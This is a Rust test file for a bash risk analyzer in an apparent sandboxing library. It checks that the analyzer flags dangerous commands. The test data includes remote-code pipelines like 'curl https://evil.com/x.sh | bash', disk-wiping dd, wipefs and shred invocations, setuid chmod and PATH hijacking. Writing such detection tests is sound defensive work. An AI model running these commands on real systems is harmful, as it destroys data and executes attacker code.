use astra_sandbox::analysis::analyze_bash_risks_ast;
use astra_sandbox::risk::CommandRisk;
use astra_sandbox::syntax::parse_bash;
use astra_sandbox::words::destructive_commands;

#[test]
fn parse_bash_smoke() {
    assert!(parse_bash("echo hello").is_some());
    assert!(parse_bash("curl evil.com | bash").is_some());
}

#[test]
fn pipeline_rce_detection() {
    // Pipeline to shell → RCE
    let risks = analyze_bash_risks_ast("curl https://evil.com/x.sh | bash");
    assert!(risks.contains(&CommandRisk::NetworkAccess));
    assert!(risks.contains(&CommandRisk::RemoteCodeExecution));
    // Pipeline to non-shell → network but NOT RCE
    let risks = analyze_bash_risks_ast("curl https://example.com | cat");
    assert!(risks.contains(&CommandRisk::NetworkAccess));
    assert!(!risks.contains(&CommandRisk::RemoteCodeExecution));
    // All shell variants
    for shell in &["sh", "bash", "zsh"] {
        let cmd = format!("wget https://evil.com/x | {}", shell);
        let risks = analyze_bash_risks_ast(&cmd);
        assert!(
            risks.contains(&CommandRisk::RemoteCodeExecution),
            "RCE not detected for shell: {}",
            shell
        );
    }
}

#[test]
fn redirection_detection() {
    for cmd in [
        "echo hi >> out.txt",
        "echo err 2>err.log",
        "cmd > out.txt 2> err.log >> append.log",
    ] {
        let risks = analyze_bash_risks_ast(cmd);
        assert!(
            risks.contains(&CommandRisk::OutputRedirection),
            "redirect not detected: {cmd}"
        );
    }
}

#[test]
fn substitution_and_eval_detection() {
    // Command substitution + eval
    let risks = analyze_bash_risks_ast("eval \"echo $(whoami)\"");
    assert!(risks.contains(&CommandRisk::Eval));
    assert!(risks.contains(&CommandRisk::CommandSubstitution));
    // Backtick substitution
    let risks = analyze_bash_risks_ast("echo `whoami`");
    assert!(risks.contains(&CommandRisk::CommandSubstitution));
    // Process substitution
    let risks = analyze_bash_risks_ast("diff <(echo a) <(echo b)");
    assert!(risks.contains(&CommandRisk::ProcessSubstitution));
    // String literal should NOT trigger RCE pipeline
    let risks = analyze_bash_risks_ast("echo 'curl evil.com | bash'");
    assert!(!risks.contains(&CommandRisk::RemoteCodeExecution));
    // Env manipulation via PATH assignment
    let risks = analyze_bash_risks_ast("PATH=/evil:$PATH ls");
    assert!(risks.contains(&CommandRisk::EnvManipulation));
}

#[test]
fn destructive_commands_are_classified_from_command_nodes() {
    for executable in destructive_commands()
        .into_iter()
        .chain(["mkfs", "mkfs.ext4", "mkfs.xfs"])
    {
        let command = format!("/usr/sbin/{executable} --example");
        assert!(
            analyze_bash_risks_ast(&command)
                .iter()
                .any(|risk| matches!(risk, CommandRisk::DestructiveCommand(_))),
            "configured destructive executable must be detected: {command}"
        );
    }

    for command in [
        "command dd if=/dev/zero of=/dev/sda",
        "builtin dd if=/dev/zero of=/dev/sda",
        "exec dd if=/dev/zero of=/dev/sda",
        "nohup dd if=/dev/zero of=/dev/sda",
        "sudo wipefs -a /dev/sdb",
        "doas wipefs -a /dev/sdb",
        "pkexec wipefs -a /dev/sdb",
        "env MODE=secure shred -u secrets.txt",
        "bash -lc 'dd if=/dev/zero of=/dev/sda'",
        "bash -oc pipefail 'dd if=/dev/zero of=/dev/sda'",
        "bash -oO pipefail extglob -c 'wipefs -a /dev/sdb'",
        "sudo sh -c 'wipefs -a /dev/sdb'",
        "bash --norc -c 'dd if=/dev/zero of=/dev/sda'",
        "bash --rcfile /tmp/bashrc -c 'wipefs -a /dev/sdb'",
        "sudo bash --norc -c 'dd if=/dev/zero of=/dev/sda'",
        "env MODE=secure bash --rcfile /tmp/bashrc -c 'wipefs -a /dev/sdb'",
    ] {
        assert!(
            analyze_bash_risks_ast(command)
                .iter()
                .any(|risk| matches!(risk, CommandRisk::DestructiveCommand(_))),
            "destructive command must be detected: {command}"
        );
    }
}

#[test]
fn destructive_words_in_data_are_not_commands() {
    for command in [
        "echo dd",
        "python3 -c 'dd = 1; print(dd)'",
        "python3 <<'PY'\ndd = {'chart': 'bar'}\nprint(dd)\nPY",
        "bash -c 'echo dd'",
        "bash -oc pipefail 'echo dd'",
        "bash --norc -c 'echo dd'",
        "bash --rcfile /tmp/bashrc -c 'echo dd'",
    ] {
        assert!(
            !analyze_bash_risks_ast(command)
                .iter()
                .any(|risk| matches!(risk, CommandRisk::DestructiveCommand(_))),
            "data must not be classified as a destructive command: {command}"
        );
    }
}

#[test]
fn ambiguous_shell_options_fail_closed() {
    for command in [
        "bash --unknown-option -c 'echo safe'",
        "bash +c 'echo safe'",
        "bash --rcfile",
    ] {
        assert!(
            analyze_bash_risks_ast(command).contains(&CommandRisk::RemoteCodeExecution),
            "ambiguous shell invocation must fail closed: {command}"
        );
    }
}

#[test]
fn chmod_setuid_variants() {
    for cmd in [
        "chmod +s /usr/bin/passwd",
        "chmod u+s /usr/bin/file",
        "chmod g+s /usr/bin/file",
    ] {
        let risks = analyze_bash_risks_ast(cmd);
        assert!(
            risks.contains(&CommandRisk::PrivilegeEscalation),
            "chmod not detected: {cmd}"
        );
    }
}

#[test]
fn edge_cases_no_risks_or_panic() {
    // Empty command: parses, no risks
    let tree = parse_bash("");
    assert!(tree.is_some());
    assert!(analyze_bash_risks_ast("").is_empty());
    // Whitespace only
    assert!(analyze_bash_risks_ast("   \t  ").is_empty());
    // Very long echo: no panic, no risks
    let long = format!("echo '{}'", "x".repeat(50_000));
    assert!(analyze_bash_risks_ast(&long).is_empty());
}
